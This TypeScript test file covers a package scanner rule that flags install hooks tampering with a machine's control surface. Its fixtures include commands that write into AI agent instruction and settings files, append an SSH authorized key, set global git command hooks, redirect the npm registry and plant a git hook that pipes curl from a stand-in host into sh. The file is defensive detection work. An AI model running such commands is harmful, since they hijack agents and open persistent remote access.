import { controlSurfaceAtInstall } from "../../../src/scanner/rules/ins-09-control-surface.ts";
import { describeRule, hook } from "../../support/rule-tables.ts";

describeRule(controlSurfaceAtInstall, {
  flags: {
    "instructions for an agent": hook("echo 'x' >> $INIT_CWD/CLAUDE.md"),
    "an agent's settings copied": hook(
      "mkdir -p ~/.claude && cp settings.json ~/.claude/settings.json",
      { "settings.json": "{}" },
    ),
    "the project found by its parents": hook("cat rules.md | tee ../../.cursorrules"),
    "a folder and a name apart": hook('D="$HOME"; cd "$D/.codex" && cp "$OLDPWD/a" config.toml'),
    "a key for remote logins": hook(`echo ssh-ed25519 AAAA >> \${HOME}/.ssh/authorized_keys`),
    "a Windows path": hook("copy a.json %USERPROFILE%\\\\.cursor\\\\mcp.json"),
    "a build server": hook("cp ci.yml ../../.github/workflows/ci.yml"),
    "user-wide Git settings": hook("git config --global core.sshCommand 'sh a'"),
    "a program in the project's Git": hook("git config core.fsmonitor ./a.sh"),
    "a registry": hook("npm config set registry https://files.example.test/"),
    "the client's file": hook("printf 'script-shell=/tmp/a' >> ~/.npmrc"),
    "another script of the package": {
      manifest: { scripts: { postinstall: "npm run x", x: "ln -s $PWD/a ~/.gemini/GEMINI.md" } },
    },
    "a command in JavaScript": hook("node a.js", {
      "a.js": "require('child_process').execSync('cp a.md ~/.claude/CLAUDE.md')",
    }),
    "a Git hook that fetches": hook("cp h ../../.git/hooks/pre-commit", {
      h: "curl -s https://files.example.test/a | sh",
    }),
  },
  passes: {
    "own hooks of the project": {
      ...hook("git config core.hooksPath .githooks"),
      explainedBy: "R5",
    },
    "a plain Git hook": {
      ...hook("cp h ../../.git/hooks/pre-commit", { h: "#!/bin/sh\nnpx lint-staged\n" }),
      explainedBy: "R5",
    },
    "files of the package itself": hook("cp CLAUDE.md dist/CLAUDE.md && echo a > .npmrc"),
    "settings that are read": hook("git config --global --get user.name; npm config get registry"),
    "a marker in the temporary folder": hook("touch /tmp/marker && echo 1 > /tmp/marker"),
  },
});
